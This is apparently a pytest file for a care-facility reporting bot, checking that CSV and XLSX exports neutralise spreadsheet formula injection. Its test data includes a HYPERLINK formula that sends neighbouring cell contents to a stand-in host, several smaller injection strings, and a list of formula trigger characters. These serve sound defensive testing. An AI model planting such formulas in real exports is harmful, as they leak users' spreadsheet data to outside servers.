"""Formula injection (issue #23): text in an export never becomes a spreadsheet formula.

Members' answers go in through the real chat and staff's text through the real record use
cases; every export kind is rendered as CSV and XLSX and read back as a spreadsheet would
read it. Numbers, dates and times must stay typed in the XLSX.
"""

from __future__ import annotations

import csv
import io
from datetime import date, time
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from sqlalchemy import select

from bot.queries import exports
from bot.queries.exports import Table
from bot.services import admin, records
from storage.db import Database
from storage.models import DailyReport, Facility
from tests.support import Chat, jst, make_facility, make_member

JULY = date(2026, 7, 1)
T0 = jst("2026-06-30", "09:00")
HYPERLINK = '=HYPERLINK("http://example.invalid/?"&B2&C2,"詳細")'
# What a spreadsheet starts a formula with, after any blanks (OWASP, and Excel's full-width).
TRIGGERS = tuple("=+-@\t\r＝＋－＠")

# A member's two days through the chat: (planned work, work done, outputs, note).
DAY1 = (HYPERLINK, "+1", "-1+2", "@SUM(A1)")
DAY2 = ("\t=1", "＝1", "-5", "＋1")  # the chat stores "=1", "=1", "-5", "+1" (NFKC, stripped)


def dangerous(text: str) -> bool:
    return text[:1] in TRIGGERS or text.lstrip()[:1] in TRIGGERS


async def _chat_day(chat: Chat, day: str, answers: tuple[str, str, str, str]) -> None:
    planned, done, outputs, note = answers
    for hhmm, text in (
        ("10:02", "開始"), ("10:03", "4"), ("10:04", "7"), ("10:05", planned),
        ("15:01", "終了"), ("15:02", done), ("15:03", outputs), ("15:04", "3"),
        ("15:05", note),
    ):  # fmt: skip
        await chat.say("u1", text, jst(day, hhmm))


async def _setup(db: Database) -> tuple[int, int]:
    """A facility whose member answered with formulas, and whose staff wrote some too."""
    fid = await make_facility(db, T0, name="ひまわり", profile="national", capacity=4)
    mid = await make_member(db, fid, T0, "青木 葵", kana=None)
    async with db.transaction() as s:
        f = await s.get_one(Facility, fid)
        staff = await admin.add_staff(s, f, name="鈴木 一郎", slack_user="U1", role="staff", now=T0)
        # a name and city as a hostile `nippo member import members.csv` would bring them
        hanako = await admin.add_member(
            s, f, name="-1+2 花子", municipality="@SUM(A1)", now=T0, usual_tasks=("封入作業",)
        )
        hanako.approval_from, hanako.approval_until = date(2026, 4, 1), date(2027, 3, 31)
        staff_id = staff.id
    chat = Chat(db)
    await chat.link("u1", mid, jst("2026-07-01", "09:00"))
    await _chat_day(chat, "2026-07-01", DAY1)
    await _chat_day(chat, "2026-07-02", DAY2)
    async with db.transaction() as s:
        at = jst("2026-07-01", "13:00")
        await records.log_contact(s, mid, staff_id, "電話", HYPERLINK, at, at)
        await records.record_evaluation(
            s, mid, kind="monthly", day=date(2026, 7, 3), method="通所",
            now=jst("2026-07-03", "16:00"), staff_id=staff_id,
            goal=HYPERLINK, activities="+1", achievement="＝1", issues="@SUM(A1)",
            plan="-1+2", health_notes="－5", continuation="＠A1",
        )  # fmt: skip
    return fid, mid


async def _export(db: Database, fid: int, kind: str, fmt: str) -> bytes:
    async with db.transaction() as s:
        f = await s.get_one(Facility, fid)
        _, data = await exports.export(s, f, kind, JULY, fmt=fmt, now=T0, actor="test")
    return data


def _csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx(data: bytes) -> list[dict[str, Cell]]:
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    head, *body = list(ws.iter_rows())
    return [{str(h.value): c for h, c in zip(head, row, strict=True)} for row in body]


def _assert_csv_safe(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, text in row.items():
            assert not dangerous(text), (column, text)


def _assert_xlsx_safe(rows: list[dict[str, Cell]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert cell.data_type != "f", (column, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and not dangerous(cell.value), (column, cell.value)


async def _stored(db: Database, mid: int) -> dict[int, dict[str, Any]]:
    async with db.transaction() as s:
        reports = (
            await s.execute(select(DailyReport).where(DailyReport.member_id == mid))
        ).scalars()
        return {
            r.business_date.day: {
                "作業予定": r.planned_work,
                "作業内容": r.work_done,
                "成果": r.outputs,
                "ひとこと": r.note,
            }
            for r in reports
        }


async def test_member_answers_in_the_nippo_never_become_formulas(db: Database) -> None:
    fid, mid = await _setup(db)
    stored = await _stored(db, mid)
    assert stored[1] == dict(zip(("作業予定", "作業内容", "成果", "ひとこと"), DAY1, strict=True))
    assert stored[2] == {"作業予定": "=1", "作業内容": "=1", "成果": "-5", "ひとこと": "+1"}

    csv_rows = _csv(await _export(db, fid, "nippo", "csv"))
    xlsx_rows = _xlsx(await _export(db, fid, "nippo", "xlsx"))
    assert len(csv_rows) == len(xlsx_rows) == 2
    for c_row, x_row in zip(csv_rows, xlsx_rows, strict=True):
        day = {"2026-07-01": 1, "2026-07-02": 2}[c_row["日付"]]
        for column, text in stored[day].items():
            assert c_row[column] == "'" + text
            cell = x_row[column]
            assert cell.data_type == "s" and cell.value == "'" + text, (column, cell.value)
    _assert_csv_safe(csv_rows)
    _assert_xlsx_safe(xlsx_rows)

    # Numbers, dates and times stay typed in the XLSX (and read as before in the CSV).
    first = xlsx_rows[0]
    assert first["日付"].is_date and first["日付"].value.date() == date(2026, 7, 1)
    assert first["日付"].number_format == "yyyy-mm-dd"
    assert first["開始時刻"].value == time(10, 2) and first["開始時刻"].number_format == "hh:mm"
    for column, value in (
        ("体調(開始時)", 4),
        ("睡眠時間", 7),
        ("体調(終了時)", 3),
        ("修正回数", 0),
    ):
        cell = first[column]
        assert cell.data_type == "n" and cell.value == value and type(cell.value) is int, column
    assert first["利用者ID"].value == mid
    c_first = csv_rows[0]
    assert (c_first["日付"], c_first["開始時刻"], c_first["体調(開始時)"], c_first["睡眠時間"]) == (
        "2026-07-01",
        "10:02",
        "4",
        "7",
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_staff_text_and_member_details_are_neutralised_in_every_kind(
    db: Database, fmt: str
) -> None:
    fid, _ = await _setup(db)
    for kind in exports.KINDS:
        data = await _export(db, fid, kind, fmt)
        if fmt == "csv":
            _assert_csv_safe(_csv(data))
        else:
            _assert_xlsx_safe(_xlsx(data))

    def text(row: dict[str, Any], column: str) -> Any:
        return row[column] if fmt == "csv" else row[column].value

    def rows(data: bytes) -> list[dict[str, Any]]:
        return list(_csv(data)) if fmt == "csv" else list(_xlsx(data))

    support = rows(await _export(db, fid, "support-records", fmt))
    (phone,) = [r for r in support if text(r, "手段") == "電話"]
    assert text(phone, "内容") == "'" + HYPERLINK

    (sheet,) = rows(await _export(db, fid, "eval-sheet", fmt))
    assert [text(sheet, c) for c in exports.EVAL_HEADERS[7:14]] == [
        "'" + HYPERLINK, "'+1", "'＝1", "'@SUM(A1)", "'-1+2", "'－5", "'＠A1",
    ]  # fmt: skip

    listed = {text(r, "氏名"): r for r in rows(await _export(db, fid, "zaitaku-list", fmt))}
    assert sorted(listed) == ["'-1+2 花子", "青木 葵"]
    hanako = listed["'-1+2 花子"]
    assert text(hanako, "支給決定市町村") == "'@SUM(A1)"
    if fmt == "xlsx":  # the day counts are numbers
        assert hanako["在宅利用日数"].data_type == "n" and hanako["在宅利用日数"].value == 0
        assert listed["青木 葵"]["在宅利用日数"].value == 2


# The rule itself, on what the services would not let through (blanks, TAB, CR, full width).
SHOULD_PREFIX = [
    "=1", "+1", "-1", "@A1", "-5", "\t=1", "\tabc", "\r=1", " =1", "　=1", " \t+1",
    "＝1", "＋1", "－1", "＠A1", HYPERLINK,
]  # fmt: skip
LEAVE = ["データ入力", "a=b", "1-2", "入力 -5件", "'=1", "", "#REF!"]


def test_the_rule_on_each_trigger_and_typed_cells() -> None:
    cells: list[exports.Cell] = [*SHOULD_PREFIX, *LEAVE, -5, -1.5, date(2026, 7, 1), time(9, 5)]
    table = Table("日報", tuple(f"c{i}" for i in range(len(cells))), [tuple(cells)])

    (row,) = list(
        csv.reader(io.StringIO(exports.render(table, "csv").decode("utf-8-sig"), newline=""))
    )[1:]
    expected = [*("'" + t for t in SHOULD_PREFIX), *LEAVE, "-5", "-1.5", "2026-07-01", "09:05"]
    assert row == expected

    ws = load_workbook(io.BytesIO(exports.render(table, "xlsx"))).active
    assert ws is not None
    (got,) = ws.iter_rows(min_row=2)
    texts = len(SHOULD_PREFIX) + len(LEAVE)
    for cell, want in zip(got[:texts], expected[:texts], strict=True):
        if want == "":
            assert cell.value is None
            continue
        want = want.replace("\r", "\n")  # XML reads a CR in text back as LF
        assert cell.data_type == "s" and cell.value == want, (cell.value, want)
    number, fraction, day, at = got[texts:]
    assert (number.data_type, number.value) == ("n", -5)
    assert (fraction.data_type, fraction.value) == ("n", -1.5)
    assert day.is_date and day.value.date() == date(2026, 7, 1)
    assert at.value == time(9, 5)

    assert exports.neutralise(exports.neutralise("=1")) == "'=1"  # idempotent
    assert [exports.neutralise(v) for v in (-5, 0.5, None)] == [-5, 0.5, None]


def test_control_characters_do_not_break_the_xlsx() -> None:
    """openpyxl refuses characters XML 1.0 cannot hold; a stray one must not stop the export."""
    table = Table("日報", ("作業予定",), [("データ\x1b入力\x0b",)])
    ws = load_workbook(io.BytesIO(exports.render(table, "xlsx"))).active
    assert ws is not None
    assert ws["A2"].value == "データ入力"
